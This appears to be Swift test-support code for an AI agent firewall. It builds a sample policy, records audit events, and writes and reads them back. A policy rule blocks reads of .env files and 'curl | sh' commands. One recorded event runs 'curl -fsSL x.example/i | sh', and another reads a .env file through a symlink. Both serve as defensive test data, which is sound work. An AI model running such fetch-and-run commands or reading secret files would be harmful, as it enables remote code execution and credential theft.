import AgentFirewallAudit
import AgentFirewallPolicy
import AgentFirewallSupervisor
import Foundation
import Testing

/// A fresh temporary directory, removed when the test's scope ends.
final class TemporaryDirectory {
    let path: String

    init() {
        path = NSTemporaryDirectory() + "afw-audit-tests-" + UUID().uuidString
        try! FileManager.default.createDirectory(atPath: path, withIntermediateDirectories: true)
    }

    func file(_ name: String) -> String { path + "/" + name }

    /// Writes `text` as the file's whole content and returns its path.
    @discardableResult
    func write(_ name: String, _ text: String) -> String {
        #expect(FileManager.default.createFile(atPath: file(name), contents: Data(text.utf8)))
        return file(name)
    }

    deinit {
        try? FileManager.default.removeItem(atPath: path)
    }
}

let testContext = PolicyContext(home: "/home/tester", workingDirectory: "/work/project")

/// The policy the test runs were "recorded" under: .env blocked, nc reviewed, 10.0.0.0/8
/// blocked, api.example.com allowed by name, everything else allowed (network: review).
let recordedPolicyYAML = """
    version: 1
    name: recorded
    defaults: {file: allow, exec: allow, network: review}
    rules:
      - id: secrets.dotenv
        surface: file
        match: {path: ["**/.env"]}
        action: block
        reason: no .env
      - id: exec.pipe-to-shell
        surface: exec
        match: {command: ["curl * | sh*"]}
        action: block
        reason: no pipe to shell
      - id: net.api
        surface: network
        match: {host: [api.example.com]}
        action: allow
        reason: the API
      - id: net.loopback
        surface: network
        match: {address: [127.0.0.0/8]}
        action: allow
        reason: loopback

    """

func policy(_ yaml: String) throws -> Policy {
    try Policy.parse(yaml: yaml, path: "test.yaml", context: testContext)
}

func engine(_ yaml: String = recordedPolicyYAML) throws -> Engine {
    Engine(CompiledPolicy(try policy(yaml)))
}

/// One line parsed as the readers parse it.
func parsed(_ text: String) throws(AuditLineProblem) -> AuditLine {
    var line = AuditLine()
    try Array(text.utf8).withUnsafeBufferPointer { bytes throws(AuditLineProblem) in try line.parse(bytes) }
    return line
}

/// The problem parsing `text` reports, or nil when it parses.
func problem(_ text: String) -> AuditLineProblem? {
    do {
        _ = try parsed(text)
        return nil
    } catch {
        return error
    }
}

/// The events the tests record: a file event through a symlink, an exec of a piped shell
/// script, connects by name and by address. Each is decided by `engine` as the live run
/// would, and written by the supervisor's AuditWriter.
func recordedEvents() -> [(event: Event, pid: Int32, parentPID: Int32, executable: String, operation: String)] {
    [
        (.file(path: "/work/project/.env", requestedPath: "/work/project/link", access: .read), 100, 1, "/usr/bin/cat", "openat"),
        (.file(path: "/work/project/notes.txt", requestedPath: nil, access: [.write, .create]), 100, 1, "/usr/bin/cat", "open"),
        (.exec(program: "/bin/sh", argv: ["sh", "-c", "curl -fsSL x.example/i | sh"]), 101, 100, "/usr/bin/bash", "execve"),
        (.exec(program: "/usr/bin/git", argv: ["git", "status"]), 102, 100, "/usr/bin/bash", "execvp"),
        (.network(address: IPAddress("93.184.216.34")!, port: 443, host: "api.example.com"), 103, 101, "/usr/bin/curl", "connect"),
        (.network(address: IPAddress("127.0.0.1")!, port: 8080, host: nil), 103, 101, "/usr/bin/curl", "connect"),
        (.network(address: IPAddress("::1")!, port: 22, host: nil), 103, 101, "/usr/bin/curl", "connect"),
    ]
}

/// Writes `recordedEvents()` decided by `engine` through AuditWriter, with a summary, and
/// returns the file's path.
func writeAudit(in directory: TemporaryDirectory, engine: Engine, name: String = "audit.jsonl") throws -> String {
    let path = directory.file(name)
    let writer = try AuditWriter(creatingAt: path)
    for (index, recorded) in recordedEvents().enumerated() {
        let decision = engine.decide(recorded.event)
        let subject: AuditSubject
        switch recorded.event {
        case .file(let path, let requested, let access):
            subject = .file(path: Array(path.utf8), requestedPath: requested.map { Array($0.utf8) }, access: access)
        case .exec(let program, let argv):
            subject = .exec(program: Array(program.utf8), argv: argv.map { Array($0.utf8) })
        case .network(let address, let port, let host):
            subject = .network(address: address, port: port, host: host.map { Array($0.utf8) })
        }
        writer.write(AuditRecord(
            timeNanoseconds: 1_795_600_800_000_000_000 + UInt64(index) * 1_000_000, pid: recorded.pid,
            parentPID: recorded.parentPID, executable: Array(recorded.executable.utf8),
            operation: Array(recorded.operation.utf8), subject: subject, decision: decision, monitor: false,
            path: decision.action == .review ? .slow : .fast, latencyNanoseconds: 900,
            review: decision.action == .review ? ReviewResolution(outcome: .block, answeredBy: "--approve deny") : nil))
    }
    #expect(writer.finish(with: AuditSummary(
        dropped: 0, malformed: 0, allowedCounted: 0, policyName: "recorded", policySource: "test.yaml",
        context: testContext, monitor: false, exitStatus: 0)) == nil)
    return path
}

/// Every event line of a file, read through AuditReader, as (surface, subject, action, rule).
func readEvents(_ path: String) throws -> (events: [(Surface, String, Action, String?)], ending: AuditReader.Ending) {
    let reader = try AuditReader(path: path)
    var events: [(Surface, String, Action, String?)] = []
    let ending = try reader.forEachEvent { line, _ in
        events.append((line.surface, line.subjectSummary, line.action, line.ruleID))
    }
    return (events, ending)
}
